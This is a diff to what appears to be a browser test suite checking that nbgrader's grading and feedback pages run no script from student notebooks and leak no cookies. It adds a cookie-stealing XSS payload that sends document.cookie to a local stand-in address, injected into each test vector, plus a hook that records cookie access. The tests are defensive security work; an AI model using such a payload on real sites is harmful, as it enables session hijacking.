@@ -15,8 +15,20 @@ from test_feedback import VECTORS
 from course_utils.homework import grading
 from course_utils.widgets.snapshot import FLAGS, find_chromium
 
-# A page that a script got hold of would say so, in one of these ways.
+SECRET = "c00kie-4711"
+# What each vector does besides: it writes a cookie, and sends all there are away.
+THIEF = "alert(1);document.cookie=`planted=1`;fetch(`http://127.0.0.1:9/`+document.cookie)"
+# A page that a script got hold of would say so, in one of these ways. nbgrader's own scripts may read cookies.
 SPY = """window.ran = [];
+const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
+Object.defineProperty(Document.prototype, "cookie", {
+  get() {
+    const stack = new Error().stack;
+    if (!stack.includes("/formgrader/static/")) window.ran.push("cookie read by " + stack);
+    return cookie.get.call(this);
+  },
+  set(value) { window.ran.push("cookie written: " + value); cookie.set.call(this, value); },
+});
 window.alert = window.confirm = window.prompt = (...words) => { window.ran.push(words.join()); };
 addEventListener("securitypolicyviolation", (event) => {
   (window.refused = window.refused || []).push(event.violatedDirective + " " + event.blockedURI);
@@ -50,6 +62,7 @@ def graded(tmp_path_factory):
     content["cells"].append(essay | {"id": "essay"})
     source.write_text(json.dumps(content), encoding="utf-8")
     for name, vector in VECTORS.items():
+        vector = vector.replace("alert(1)", THIEF)
         shown = f"from IPython.display import display, HTML, Markdown\ndisplay(HTML({vector!r}), Markdown({vector!r}))"
         handed_in = answers(
             q1=f"{shown}\nprint({vector!r})\ndef scale(values, factor):\n    raise ValueError({vector!r})"
@@ -110,6 +123,10 @@ class Visit:
         return [url for url in self.asked if not url.startswith((address, "data:", "file:"))]
 
 
+def cookies(visit):
+    return {each["name"]: each["value"] for each in visit.page.context.cookies()}
+
+
 @pytest.mark.parametrize("name", VECTORS)
 def test_the_page_that_a_student_gets_runs_nothing_and_asks_for_nothing(browser, graded, name):
     visit = Visit(browser)
@@ -126,7 +143,10 @@ def test_the_page_that_a_student_gets_runs_nothing_and_asks_for_nothing(browser,
 
 def test_formgrader_shows_every_submission_runs_nothing_of_it_and_asks_nobody_else(browser, server, graded):
     visit = Visit(browser)
+    visit.page.context.add_cookies([{"name": "session", "value": SECRET, "url": server}])
     visit.page.goto(f"{server}/formgrader?token=spied")
+    assert SECRET in visit.page.evaluate("document.cookie")  # a script could read it
+    before = cookies(visit)
     listed = json.loads(
         visit.page.evaluate("fetch('/formgrader/api/submitted_notebooks/practice/practice').then(r => r.text())")
     )
@@ -145,6 +165,8 @@ def test_formgrader_shows_every_submission_runs_nothing_of_it_and_asks_nobody_el
             "[...document.querySelectorAll('.rendered_html')].map((part) => part.innerHTML).join()"
         )
         assert "<script" not in texts
+        assert not [url for url in visit.asked if SECRET in url], each["student"]
+        assert cookies(visit) == before, each["student"]
     visit.page.close()
 
 
@@ -172,3 +194,33 @@ def test_the_stored_page_has_a_policy_before_anything_of_the_student_s(graded):
     for path in graded.glob("feedback/*/*.html"):
         text = path.read_text(encoding="utf-8")
         assert text.index("Content-Security-Policy") < text.index("<body")
+
+
+def test_no_page_of_a_student_s_has_a_violation_that_axe_finds_and_its_own_style_applies(browser, graded):
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
+    open_to_axe = browser.new_context(bypass_csp=True).new_page()
+    strict = Visit(browser)
+    for path in sorted(graded.glob("feedback/*/*.html")):
+        open_to_axe.goto(path.as_uri())
+        found = axe.Axe().run(open_to_axe)
+        assert found.violations_count == 0, (path.parent.name, found.generate_report())
+    strict.page.goto(path.as_uri())
+    assert strict.page.evaluate("getComputedStyle(document.querySelector('table')).borderCollapse") == "collapse"
+    assert strict.page.evaluate("window.refused || []") == []
+
+
+def test_a_formula_is_drawn_in_formgrader_and_on_the_student_s_page(browser, server, graded):
+    """The browser lays MathML out: a fraction is higher than the letters in it."""
+    height = "getBoundingClientRect().height"
+    higher = f"(part => part.{height} / part.firstElementChild.{height})(document.querySelector('mfrac'))"
+    visit = Visit(browser)
+    visit.page.goto((graded / "feedback" / "harmless" / "practice.html").as_uri())
+    assert visit.page.evaluate(higher) > 1.5
+    visit.page.goto(f"{server}/formgrader?token=spied")
+    listed = json.loads(
+        visit.page.evaluate("fetch('/formgrader/api/submitted_notebooks/practice/practice').then(r => r.text())")
+    )
+    [found] = [each["id"] for each in listed if each["student"] == "harmless"]
+    visit.page.goto(f"{server}/formgrader/submissions/{found}")
+    visit.page.wait_for_selector("mfrac")
+    assert visit.page.evaluate(higher) > 1.5
